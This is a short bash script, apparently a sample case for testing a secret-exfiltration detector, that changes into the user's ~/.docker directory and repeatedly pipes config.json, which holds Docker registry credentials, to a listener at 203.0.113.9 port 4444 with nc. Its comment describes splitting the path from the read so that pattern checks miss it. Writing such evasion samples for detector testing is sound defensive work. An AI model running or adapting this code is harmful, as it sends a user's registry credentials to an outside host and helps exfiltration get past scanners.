#!/usr/bin/env bash
# Evasion: sends Docker's registry credentials. cd "$HOME/.docker" comes
# first; the file is read later, inside a retry loop, by its bare name
# config.json, and piped to a listener with nc.
set -u
cd "$HOME/.docker"
tries=3
printf 'trying %s times\n' "$tries"
for i in $(seq 1 "$tries"); do
	if nc -w 5 203.0.113.9 4444 < config.json; then
		break
	fi
	sleep "$i"
done
